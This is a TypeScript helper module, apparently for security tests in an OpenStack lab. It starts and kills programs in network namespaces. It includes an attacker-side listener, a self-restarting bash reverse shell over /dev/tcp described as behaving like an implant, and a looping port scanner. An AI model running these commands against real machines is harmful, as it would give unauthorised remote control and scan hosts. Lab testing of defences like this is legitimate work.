// Guests of the OpenStack lab (namespaces `labvm-…`) and the outside world (`labinet`): programs in them, until the test is done.
import { type ChildProcess, spawn } from 'node:child_process';

/** Of the namespace that a machine is. */
export const guestNamespace = (machineId: string): string => `labvm-${machineId.slice(0, 8)}`;

export const outsideNamespace = 'labinet';

const running: ChildProcess[] = [];

/** Starts a program in a namespace, as the leader of a group of its own. */
export function startIn(namespace: string, program: string, ...args: readonly string[]): ChildProcess {
  const child = spawn('ip', ['netns', 'exec', namespace, program, ...args], { detached: true, stdio: ['ignore', 'pipe', 'ignore'] });
  running.push(child);
  return child;
}

/** Ends everything that was started, with what it started. */
export function endAll(): void {
  for (const { pid } of running.splice(0)) {
    try {
      if (pid !== undefined) process.kill(-pid, 'SIGKILL');
    } catch {
      // It has ended by itself.
    }
  }
}

/** The attacker's end of a reverse shell: gives a command five times a second, and notes when the last answer came. */
export class ShellListener {
  answers = 0;
  lastAnswerMs = 0;

  constructor(address: string, port: number) {
    const program = `require('node:net').createServer((s) => {
      s.on('error', () => {}); s.on('data', () => console.log(Date.now()));
      setInterval(() => s.write('echo alive\\n'), 200);
    }).listen(${port}, '${address}')`;
    startIn(outsideNamespace, process.execPath, '-e', program).stdout?.on('data', (text: Buffer) => {
      this.answers += 1;
      this.lastAnswerMs = Number(text.toString().trim().split('\n').at(-1));
    });
  }
}

/** A shell of the machine in the hands of the listener; begun again when it breaks, as implants do. */
export const startReverseShell = (namespace: string, address: string, port: number): ChildProcess =>
  startIn(namespace, 'bash', '-c', `while :; do bash -c 'exec 3<>/dev/tcp/${address}/${port}; bash <&3 >&3 2>&1'; sleep 0.3; done`);

/** Tries port after port of a stranger. */
export const startScan = (namespace: string, address: string): ChildProcess =>
  startIn(
    namespace,
    'bash',
    '-c',
    `while :; do for p in $(seq 1 2000); do timeout 0.2 bash -c "</dev/tcp/${address}/$p" 2>/dev/null & sleep 0.05; done; done`,
  );
